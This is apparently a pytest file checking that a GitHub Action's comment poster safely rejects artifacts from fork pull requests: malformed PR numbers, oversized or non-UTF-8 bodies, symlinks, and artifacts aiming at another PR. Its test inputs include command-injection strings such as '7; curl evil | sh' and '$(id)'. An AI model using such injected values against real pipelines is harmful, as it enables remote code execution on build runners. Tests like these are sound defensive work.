"""Trusted reporting for pull requests from forks (issue 35): the compare job
(action mode compare-only, scripts/action_compare.sh) leaves the comment as an
artifact and posts nothing; the workflow_run job (mode post-only,
scripts/pr_comment.py --from-artifact) posts it against the fake GitHub API of
test_action.py. The artifact is the fork's to write, so hostile content is
refused: a PR number that is not a positive integer, an oversized or non-UTF-8
body, a symlink, and a number naming a PR other than the one the run built."""
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_action import PR_COMMENT, TOKEN, FakeGitHub, run_action, write_results

HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"


def workflow_run_event(tmp: Path, number_listed=None, event="pull_request", head_sha=HEAD_SHA) -> Path:
    """What GitHub sends the workflow_run job: a fork's run lists no pull requests."""
    pulls = [] if number_listed is None else [{"number": number_listed}]
    path = tmp / "workflow_run.json"
    path.write_text(json.dumps({"action": "completed", "workflow_run": {
        "id": 42, "event": event, "head_sha": head_sha, "conclusion": "success", "pull_requests": pulls}}))
    return path


def post_only(tmp: Path, github: FakeGitHub, artifact: Path, event: Path, marker="<!-- benchreport -->"):
    env = dict(os.environ, GITHUB_EVENT_PATH=str(event), GITHUB_REPOSITORY="octo/bench", GITHUB_API_URL=github.url,
               GITHUB_TOKEN=TOKEN)
    return subprocess.run([sys.executable, str(PR_COMMENT), "--from-artifact", str(artifact), "--marker", marker],
                          env=env, capture_output=True, text=True, timeout=60)


def compare_only(tmp: Path, github: FakeGitHub, **extra: str):
    write_results(tmp / "results", head_factor=1.3)
    artifact = tmp / "artifact"
    ran = run_action(tmp, github, event={"pull_request": {"number": 7}}, BR_MODE="compare-only",
                     BR_ARTIFACT_DIR=str(artifact), **extra)
    return ran, artifact


def test_the_compare_half_posts_nothing_and_the_post_half_posts_its_artifact(tmp_path):
    with FakeGitHub() as github:
        github.pulls[7] = HEAD_SHA
        ran, artifact = compare_only(tmp_path, github)
        assert ran.returncode == 0, ran.stderr
        assert github.requests == [] and github.comments == {}  # the fork's job holds no write token
        assert sorted(p.name for p in artifact.iterdir()) == ["comment.md", "pr-number", "report.html"]
        assert (artifact / "pr-number").read_text() == "7\n"
        report = (artifact / "comment.md").read_text()
        assert "Performance Report" in report and "slower" in report
        assert (tmp_path / "summary.md").read_text().count("Performance Report") == 1  # the compare job's summary

        # The workflow_run job, in another folder: only the artifact crosses over.
        job = tmp_path / "report-job"
        shutil.copytree(artifact, job / "artifact")
        posted = post_only(job, github, job / "artifact", workflow_run_event(job))
        assert posted.returncode == 0, posted.stderr
        (comment,) = github.comments.values()
        assert comment["issue"] == 7 and comment["body"] == "<!-- benchreport -->\n" + report
        assert [m + " " + p for m, p in github.requests] == [
            "GET /repos/octo/bench/pulls/7", "GET /user", "GET /repos/octo/bench/issues/7/comments",
            "POST /repos/octo/bench/issues/7/comments"]

        # The next push to the PR: a new compare run, and the same comment is edited.
        github.pulls[7] = "f" * 40
        write_results(tmp_path / "results", head_factor=1.0)
        again = run_action(tmp_path, github, BR_MODE="compare-only", BR_ARTIFACT_DIR=str(artifact))
        assert again.returncode == 0, again.stderr
        edited = post_only(job, github, artifact, workflow_run_event(job, head_sha="f" * 40))
        assert edited.returncode == 0 and "updated comment" in edited.stdout
        assert len(github.comments) == 1
        new_report = (artifact / "comment.md").read_text()
        assert github.comments[comment["id"]]["body"] == "<!-- benchreport -->\n" + new_report
        assert new_report != report


def test_the_gate_still_trips_in_the_compare_half(tmp_path):
    with FakeGitHub() as github:
        ran, artifact = compare_only(tmp_path, github, BR_FAIL_ON="slower")
        assert ran.returncode == 1 and (artifact / "comment.md").is_file() and github.requests == []


def test_a_push_run_leaves_no_artifact_and_an_unknown_mode_is_an_error(tmp_path):
    write_results(tmp_path / "results", head_factor=1.0)
    with FakeGitHub() as github:
        push = run_action(tmp_path, github, event={"ref": "refs/heads/main"}, BR_MODE="compare-only",
                          BR_ARTIFACT_DIR=str(tmp_path / "artifact"))
        assert push.returncode == 0 and not (tmp_path / "artifact").exists()
        odd = run_action(tmp_path, github, BR_MODE="post")
        assert odd.returncode == 2 and "mode must be compare" in odd.stderr
        job = tmp_path / "job"
        job.mkdir()
        (job / "pr-number").write_text("7\n")
        (job / "comment.md").write_text("report\n")
        not_pr = post_only(job, github, job, workflow_run_event(job, event="push"))
        assert not_pr.returncode == 0 and "not a pull request" in not_pr.stdout
        assert github.requests == []


@pytest.mark.parametrize("number", ["7; curl evil | sh", "$(id)", "-7", "0", "7.0", "0x7", "07", " ", "",
                                    "99999999999", "٧", "7\n8"])
def test_a_pr_number_that_is_not_a_positive_integer_is_refused(tmp_path, number):
    (tmp_path / "pr-number").write_text(number)
    (tmp_path / "comment.md").write_text("report\n")
    with FakeGitHub() as github:
        github.pulls[7] = HEAD_SHA
        ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert ran.returncode == 2, (number, ran.stdout, ran.stderr)
        assert "::error::benchreport: refused the comment artifact" in ran.stderr
        assert "positive integer" in ran.stderr and "Traceback" not in ran.stderr
        assert github.requests == []


def test_oversized_non_utf8_symlinked_and_missing_bodies_are_refused(tmp_path):
    with FakeGitHub() as github:
        github.pulls[7] = HEAD_SHA
        (tmp_path / "pr-number").write_text("7\n")
        body = tmp_path / "comment.md"
        cases = {
            "over GitHub's limit of 65536": "x" * (65536 - len("<!-- benchreport -->\n") + 1),
            "larger than 262144 bytes": "x" * (10 * 65536),  # refused before it is read whole
        }
        for message, text in cases.items():
            body.write_text(text)
            ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
            assert ran.returncode == 2 and message in ran.stderr, ran.stderr
        body.write_bytes(b"report \xff\xfe\n")
        ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert ran.returncode == 2 and "not UTF-8" in ran.stderr
        body.unlink()
        secret = tmp_path / "secret.txt"
        secret.write_text("a file of the runner\n")
        body.symlink_to(secret)
        ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert ran.returncode == 2 and "not a regular file" in ran.stderr
        body.unlink()
        ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert ran.returncode == 2 and "missing" in ran.stderr
        assert github.requests == [] and github.comments == {}
        # The longest body that fits is posted whole.
        body.write_text("é" * (65536 - len("<!-- benchreport -->\n")))
        ran = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert ran.returncode == 0, ran.stderr
        assert [len(c["body"]) for c in github.comments.values()] == [65536]


def test_an_artifact_naming_another_pr_posts_nothing(tmp_path):
    (tmp_path / "comment.md").write_text("report\n")
    with FakeGitHub() as github:
        github.pulls.update({7: HEAD_SHA, 8: "8" * 40})
        (tmp_path / "pr-number").write_text("8\n")  # a fork's artifact aiming at someone else's PR
        forked = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert forked.returncode == 0 and "no comment posted" in forked.stderr and f"built {HEAD_SHA}" in forked.stderr
        listed = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path, number_listed=7))
        assert listed.returncode == 0 and "the workflow run belongs to #7" in listed.stderr
        (tmp_path / "pr-number").write_text("9\n")  # no such PR: the API's 404
        missing = post_only(tmp_path, github, tmp_path, workflow_run_event(tmp_path))
        assert missing.returncode == 0 and "HTTP 404" in missing.stderr
        assert github.comments == {}
        assert all(m == "GET" for m, _ in github.requests)
    not_run = post_only(tmp_path, github, tmp_path, tmp_path / "missing-event.json")
    assert not_run.returncode == 2


def test_from_artifact_needs_a_workflow_run_event(tmp_path):
    (tmp_path / "pr-number").write_text("7\n")
    (tmp_path / "comment.md").write_text("report\n")
    (tmp_path / "event.json").write_text(json.dumps({"pull_request": {"number": 7}}))
    with FakeGitHub() as github:
        ran = post_only(tmp_path, github, tmp_path, tmp_path / "event.json")
        assert ran.returncode == 2 and "needs a workflow_run event" in ran.stderr and github.requests == []
